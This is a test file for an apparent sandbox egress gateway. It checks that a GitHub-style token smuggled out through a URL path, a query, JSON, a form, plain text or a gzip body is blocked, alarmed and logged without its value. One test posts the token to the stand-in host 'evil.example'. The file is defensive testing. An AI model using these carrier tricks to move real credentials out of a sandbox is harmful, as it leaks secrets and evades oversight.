import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { othersToken } from "../support/othersToken.ts";
import { HOST, type TunnelBed, tunnelBed } from "../support/tunnelBed.ts";

const TOKEN = othersToken();

type Asking = { path?: string; type?: string; body?: string | Uint8Array; encoding?: string };

const ask = (the: TunnelBed, { path = "/v1/7", type, body, encoding }: Asking) =>
  the.bench.shim.ask(
    {
      ":method": body === undefined ? "GET" : "POST",
      ":authority": the.place,
      ":path": path,
      ...(type === undefined ? {} : { "content-type": type }),
      ...(encoding === undefined ? {} : { "content-encoding": encoding }),
    },
    body,
  );

const json = (value: unknown): Asking => ({ type: "application/json", body: JSON.stringify(value) });

const CARRIED: [string, string, (token: string) => Asking][] = [
  ["in the path", "path", (token) => ({ path: `/v1/${token}` })],
  ["in the path, escaped", "path", (token) => ({ path: `/v1/%67${token.slice(1)}` })],
  ["in the query", "query key", (token) => ({ path: `/v1/7?key=${token}` })],
  ["in a value of the query, with something around it", "query", (token) => ({ path: `/v1/7?key=a+${token}+b` })],
  ["in JSON", "body", (token) => json({ remote: `https://x:${token}@git.example/a` })],
  ["in JSON in JSON", "body", (token) => json({ call: JSON.stringify({ token }) })],
  [
    "in a form",
    "body",
    (token) => ({
      type: "application/x-www-form-urlencoded",
      body: new URLSearchParams({ a: "1", token }).toString(),
    }),
  ],
  ["in plain text", "body", (token) => ({ type: "text/plain", body: `use ${token}` })],
  [
    "in a body that is compressed",
    "body",
    (token) => ({ type: "text/plain", encoding: "gzip", body: gzipSync(`use ${token}`) }),
  ],
];

describe("a credential of others", () => {
  test.each(CARRIED)(
    "%s is refused, told and logged without its value, and one with a wrong checksum passes",
    async (...row) => {
      const [, place, carrying] = row;
      await using the = await tunnelBed({ query: ["key"] });
      expect(await ask(the, carrying(TOKEN))).toMatchObject({
        status: 403,
        text: "a credential from inside is not passed on, so the request was refused and reported\n",
      });
      expect(the.host.seen).toEqual([]);
      const credential = {
        place,
        kind: "github-token",
        length: TOKEN.length,
        hash: expect.stringMatching(/^[0-9a-f]{16}$/) as string,
      };
      expect(the.bench.log()).toMatchObject([
        { event: "open", verdict: "deny", reason: "foreign-credential", host: HOST, credential },
        { event: "close" },
      ]);
      expect(the.bench.told).toMatchObject([
        { type: "alarm", alarm: { carrier: "foreign-credential", subject: HOST, sandbox: "wd-lab" } },
        { type: "refused" },
      ]);
      expect(JSON.stringify([the.bench.told, the.bench.log()])).not.toContain(TOKEN.slice(4, 20));
      const wrong = TOKEN.slice(0, -1) + (TOKEN.endsWith("0") ? "1" : "0");
      // In a value of its own the query tells it by its form alone, as a header does.
      const passes = place === "query key" ? json({}) : carrying(wrong);
      expect((await ask(the, passes)).status).toBe(200);
    },
  );

  test("to a host that no rule names is denied for that, and not looked for", async () => {
    await using the = await tunnelBed();
    const reply = await the.bench.shim.ask({ ":method": "POST", ":authority": "evil.example", ":path": "/" }, TOKEN);
    expect(reply.status).toBe(403);
    expect(the.bench.log()[0]).toMatchObject({ reason: "host-not-listed", credential: null });
  });

  test("that is our own is told as such, and its hash is not that of the body it was", async () => {
    const ours = ["what", "the", "gateway", "puts", "in"].join("-");
    await using the = await tunnelBed({}, { secrets: { API_KEY: ours } });
    expect((await ask(the, { type: "text/plain", body: ours })).status).toBe(403);
    expect(the.bench.log()[0]).toMatchObject({
      credential: { place: "body", kind: "ours" },
      bodySha256: null,
      redactions: ["bodySha256"],
    });
    expect((await ask(the, { path: `/v1/${ours}` })).status).toBe(403);
    expect(JSON.stringify([the.bench.told, the.bench.log()])).not.toContain(ours);
  });
});
